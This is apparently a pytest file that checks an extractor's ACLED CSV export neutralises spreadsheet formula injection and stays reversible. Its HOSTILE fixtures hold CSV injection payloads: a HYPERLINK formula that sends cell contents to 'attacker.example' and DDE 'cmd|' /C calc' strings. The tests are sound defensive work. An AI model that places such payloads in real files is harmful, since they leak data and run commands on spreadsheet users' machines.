"""The ACLED CSV is safe to open in a spreadsheet (OWASP CSV injection) and reversible by one rule."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from extractor import merge
from extractor.export import acled_rows, write_acled_csv
from extractor.export.acled_csv import NUMERIC_COLUMNS
from extractor.export.cells import FORMULA_PREFIXES, neutralise, neutralise_row
from tests.corpus_fakes import event, result

HOSTILE = {
    "actor1": '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "actor2": "+cmd|' /C calc'!A0",
}


def restore(cell: str) -> str:
    """The rule for readers (docs/corpus-and-export.md): a text cell starting with ' loses that character."""
    return cell[1:] if cell.startswith("'") else cell


def _written(tmp_path: Path) -> tuple[list[dict[str, object]], list[dict[str, str]]]:
    hostile = result(
        "a",
        event(actor1=HOSTILE["actor1"], actor2=HOSTILE["actor2"], countries=("BRA",), place="Manaus"),
        url="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    quoted = result("b", event(date="2020-01-09", actor1="'quoted' group", actor2="-minus group"))
    events = merge([hostile, quoted]).events
    path = tmp_path / "acled.csv"
    write_acled_csv(events, path)
    with path.open(encoding="utf-8", newline="") as handle:
        return acled_rows(events), list(csv.DictReader(handle))


def test_no_text_cell_of_the_csv_starts_a_formula(tmp_path: Path) -> None:
    _, written = _written(tmp_path)
    cells = [
        (column, cell) for row in written for column, cell in row.items() if column not in NUMERIC_COLUMNS
    ]
    assert any(cell.startswith("'=HYPERLINK") for _, cell in cells)
    assert any(cell.startswith("'+cmd") for _, cell in cells)
    assert any(cell.startswith("'@SUM") for _, cell in cells)
    assert not [(column, cell) for column, cell in cells if cell.startswith(FORMULA_PREFIXES)]


def test_a_reader_recovers_every_cell_by_the_documented_rule(tmp_path: Path) -> None:
    rows, written = _written(tmp_path)
    assert len(rows) == len(written) == 2
    for row, read in zip(rows, written, strict=True):
        for column, value in row.items():
            expected = "" if value is None else str(value)
            got = read[column] if column in NUMERIC_COLUMNS else restore(read[column])
            assert got == expected, column
    assert {r["actor1"] for r in rows} == {HOSTILE["actor1"], "'quoted' group"}


def test_negative_coordinates_are_written_as_numbers(tmp_path: Path) -> None:
    _, written = _written(tmp_path)
    [southern] = [r for r in written if r["country"] == "Brazil"]
    assert float(southern["latitude"]) < 0 and float(southern["longitude"]) < 0
    assert not southern["latitude"].startswith("'") and not southern["longitude"].startswith("'")


def test_numeric_columns_keep_negative_numbers_even_as_text_but_not_formulas() -> None:
    row = {"latitude": "-12.5", "longitude": -3.25, "fatalities": "=1+1", "notes": "-12.5"}
    assert neutralise_row(row, NUMERIC_COLUMNS) == {
        "latitude": "-12.5",
        "longitude": -3.25,
        "fatalities": "'=1+1",
        "notes": "'-12.5",  # text in a text column: a spreadsheet would read it as a formula too
    }


@given(st.text())
def test_neutralise_is_undone_by_the_rule_and_never_leaves_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert isinstance(cell, str)
    assert restore(cell) == text
    assert not cell.startswith(FORMULA_PREFIXES)
